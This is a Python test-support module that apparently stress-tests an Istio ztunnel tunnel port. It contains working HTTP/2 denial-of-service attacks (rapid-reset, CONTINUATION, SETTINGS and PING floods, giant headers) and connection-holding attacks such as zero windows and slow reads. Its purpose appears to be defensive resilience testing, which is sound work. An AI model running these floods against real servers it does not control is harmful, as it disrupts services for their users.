"""Attacks on a ztunnel's port for tunnels, by a client with a genuine certificate: real TLS, HTTP/2 frames by hand.

    python -m tests.support.attacks NAME < ORDER        prints a JSON object a line: when it holds, when it is over

The order: `host`, `certificate`, `key`, `root`, `authority`, `deaf` and `connections`. A flood begins again whenever
the server has had enough of it, and so does a churn, which breaks no rule; a hold opens its connections, says
`{"held": N}` and keeps them. All go on until their input ends.
The last line: `attempts` (tunnels begun), `ended` (by the server), `sent` bytes, and `answers` (GOAWAY codes by count).
Standard library only, beside mesh_hbone.
"""

import json
import os
import select
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from typing import Any  # JSON

from tests.support.mesh_hbone import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    GOAWAY,
    HEADERS,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    connect_head,
    frame,
    literal,
    tls_context,
)

HBONE_PORT = 15008
PING = 6
INITIAL_WINDOW_SIZE = (0x4).to_bytes(2, "big")
CANCEL = (8).to_bytes(4, "big")
GIANT_BLOCK_BYTES = 1 << 20
EARLY_BYTES = 1 << 16
FRAMES_AT_ONCE = 200
STREAMS_AT_ONCE = 50
BEGUN_SECONDS = 0.005
PATIENCE_SECONDS = 2.0

Order = dict[str, Any]
Bursts = Callable[[Order], Iterator[bytes]]


def begin(settings: bytes = b"") -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0, settings)


def resets(order: Order) -> Iterator[bytes]:
    """Streams that are reset as soon as they are opened (CVE-2023-44487)."""
    head = connect_head(order["authority"])
    for first in range(1, 1 << 30, 2 * FRAMES_AT_ONCE):
        streams = range(first, first + 2 * FRAMES_AT_ONCE, 2)
        yield b"".join(frame(HEADERS, END_HEADERS, s, head) + frame(RST_STREAM, 0, s, CANCEL) for s in streams)


def continuations(order: Order) -> Iterator[bytes]:
    """A header block that never ends (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, connect_head(order["authority"]))
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x-filler", b"x" * 100)) * FRAMES_AT_ONCE


def settings(_order: Order) -> Iterator[bytes]:
    """Settings that each want an answer (CVE-2019-9515)."""
    while True:
        yield frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE + (65_535).to_bytes(4, "big")) * FRAMES_AT_ONCE


def pings(_order: Order) -> Iterator[bytes]:
    """PINGs, whose answers nobody reads (CVE-2019-9512)."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * FRAMES_AT_ONCE


def giant_heads(order: Order) -> Iterator[bytes]:
    """Header blocks of a MiB, in whole frames."""
    filler = literal(b"x-filler", b"x" * 100) * 130
    for stream in range(1, 1 << 30, 2):
        yield frame(HEADERS, 0, stream, connect_head(order["authority"]))
        for _ in range(GIANT_BLOCK_BYTES // len(filler)):
            yield frame(CONTINUATION, 0, stream, filler)
        yield frame(CONTINUATION, END_HEADERS, stream, b"")


FLOODS: dict[str, Bursts] = {
    "resets": resets,
    "continuations": continuations,
    "settings": settings,
    "pings": pings,
    "giant-heads": giant_heads,
}


def late_resets(order: Order) -> Iterator[bytes]:
    """Streams that are reset once their connections are there: to the framer, applications that come and go."""
    head = connect_head(order["authority"])
    for first in range(1, 1 << 30, 2 * STREAMS_AT_ONCE):
        streams = range(first, first + 2 * STREAMS_AT_ONCE, 2)
        yield b"".join(frame(HEADERS, END_HEADERS, stream, head) for stream in streams)
        time.sleep(BEGUN_SECONDS)
        yield b"".join(frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)


CHURNS: dict[str, Bursts] = {"late-resets": late_resets}


def zero_windows(order: Order) -> bytes:
    """Ask the application for more than it may send: no window is ever opened."""
    window = INITIAL_WINDOW_SIZE + (0).to_bytes(4, "big")
    return begin(window) + b"".join(ask(order, stream) for stream in range(1, 41, 2))


def slow_reads(order: Order) -> bytes:
    """Ask for all that the windows allow, and read nothing."""
    window = INITIAL_WINDOW_SIZE + (0x7FFF_FFFF).to_bytes(4, "big")
    opened = frame(8, 0, 0, (0x7FFF_0000).to_bytes(4, "big"))
    return begin(window) + opened + b"".join(ask(order, stream) for stream in range(1, 41, 2))


def ask(order: Order, stream: int) -> bytes:
    """A CONNECT and, early, the words that make the application send without end."""
    return frame(HEADERS, END_HEADERS, stream, connect_head(order["authority"])) + frame(DATA, 0, stream, b"pour\n")


def early_data(order: Order) -> bytes:
    """Much data right behind a CONNECT, for an application that never reads."""
    head = connect_head(order["deaf"])
    data = frame(DATA, 0, 1, bytes(1 << 14)) * (EARLY_BYTES >> 14)
    return begin() + frame(HEADERS, END_HEADERS, 1, head) + data


def half_open(order: Order) -> bytes:
    """A CONNECT whose head is never finished."""
    return begin() + frame(HEADERS, 0, 1, connect_head(order["authority"]))


def no_preface(_order: Order) -> bytes:
    """Nothing at all after the handshake."""
    return b""


HOLDS: dict[str, Callable[[Order], bytes]] = {
    "zero-windows": zero_windows,
    "slow-reads": slow_reads,
    "early-data": early_data,
    "half-open": half_open,
    "no-preface": no_preface,
}


def open_tunnel(order: Order, context: ssl.SSLContext) -> ssl.SSLSocket:
    plain = socket.create_connection((order["host"], HBONE_PORT), PATIENCE_SECONDS)
    return context.wrap_socket(plain)


def read_goaway(connection: ssl.SSLSocket) -> str:
    """The code of the GOAWAY that waits to be read; how the connection ended, without one."""
    received = b""
    connection.settimeout(PATIENCE_SECONDS)
    try:
        while part := connection.recv(1 << 16):
            received += part
            while len(received) >= 9:
                length = int.from_bytes(received[:3], "big")
                if len(received) < 9 + length:
                    break
                if received[3] == GOAWAY:
                    return f"goaway {int.from_bytes(received[13:17], 'big')}"
                received = received[9 + length :]
    except OSError as error:
        return type(error).__name__
    return "closed"


def goes_on() -> bool:
    """Whether our input has not ended."""
    return not select.select([sys.stdin], [], [], 0)[0]


def flood(order: Order, bursts: Bursts) -> Order:
    context = tls_context(order)
    attempts, ended, sent, answers = 0, 0, 0, Counter[str]()
    while goes_on():
        # Who broke the rules may have to wait for longer than our patience.
        with suppress(OSError), open_tunnel(order, context) as connection:
            attempts += 1
            try:
                connection.sendall(begin() + frame(SETTINGS, ACK, 0, b""))
                for burst in bursts(order):
                    if not goes_on():
                        break
                    connection.sendall(burst)
                    sent += len(burst)
                else:
                    continue
                continue
            except OSError:
                ended += 1
            answers[read_goaway(connection)] += 1
    return {"attempts": attempts, "ended": ended, "sent": sent, "answers": answers}


def hold(order: Order, words: Callable[[Order], bytes]) -> Order:
    context = tls_context(order)
    with ExitStack() as stack:
        opened = []
        for _ in range(order["connections"]):
            connection = stack.enter_context(open_tunnel(order, context))
            with suppress(TimeoutError):
                connection.sendall(words(order))
            opened.append(connection)
        say({"held": len(opened)})
        sys.stdin.read()
        ended = sum(has_ended(connection) for connection in opened)
    return {"attempts": len(opened), "ended": ended, "sent": 0, "answers": {}}


def has_ended(connection: ssl.SSLSocket) -> bool:
    connection.setblocking(False)
    try:
        while connection.recv(1 << 16):
            pass
    except ssl.SSLWantReadError:
        return False
    except OSError:
        return True
    return True


def say(what: Order) -> None:
    sys.stdout.write(json.dumps(what) + "\n")
    sys.stdout.flush()


def main() -> None:
    # Whoever attacks uses a machine of their own: here they must not take the processor from those who are measured.
    os.nice(19)
    name = sys.argv[1]
    order = json.loads(sys.stdin.readline())
    result = flood(order, (FLOODS | CHURNS)[name]) if name in FLOODS | CHURNS else hold(order, HOLDS[name])
    say(result)


if __name__ == "__main__":
    main()
